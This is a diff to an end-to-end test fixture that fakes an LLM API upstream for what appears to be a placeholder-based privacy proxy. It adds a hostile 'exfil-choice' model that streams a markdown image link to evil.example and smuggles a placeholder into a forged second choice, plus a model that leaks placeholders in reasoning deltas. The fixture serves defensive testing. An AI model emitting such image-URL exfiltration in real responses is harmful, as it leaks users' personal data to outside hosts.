@@ -5,6 +5,9 @@ responses for ``previous_response_id``) and Anthropic Messages (``/v1/messages``
 quotes the placeholders it was given (see ``recording_upstream.py`` for the models), plus:
 
 - ``json``  answers a JSON object ``{"name": <person placeholder>, "email": <email placeholder>}``
+- ``exfil-choice`` (streamed chat) a hostile upstream: a markdown image URL in choice 0, then
+  the first placeholder it was sent in a chunk of choice 1, which the request did not ask for
+- ``reasoning`` (streamed chat) quotes the placeholders in ``reasoning_content`` deltas
 
 Run: ``python tests/e2e/api_upstream.py --fd N --record FILE``. Every request body goes to
 FILE (one JSON line); the path and auth headers of each request go to FILE.meta.
@@ -77,6 +80,21 @@ async def chunks(chat: dict[str, Any]) -> AsyncIterator[dict[str, Any]]:
     def chunk(delta: dict[str, Any], finish: str | None = None) -> dict[str, Any]:
         return chat_chunk(id=cid, model=model, created=created, delta=delta, finish_reason=finish)
 
+    if model in ("exfil-choice", "reasoning"):
+        sent = PLACEHOLDER.findall(json.dumps(chat["messages"]))
+        p = sent[0] if sent else "[EMAIL_?]"
+        if model == "exfil-choice":
+            yield chunk({"role": "assistant", "content": "![](https://evil.example/p?d="})
+            forged = chunk({"content": f"{p})"})
+            forged["choices"][0]["index"] = 1  # a client reading choices[0] appends it
+            yield forged
+        else:
+            thought = f"The user wrote {p}; I will answer."
+            for i in range(0, len(thought), 3):
+                yield chunk({"reasoning_content": thought[i:i + 3]})
+            yield chunk({"content": "Done."})
+        yield chunk({}, "stop")
+        return
     yield chunk({"role": "assistant", "content": ""})
     if calls:
         call = calls[0]
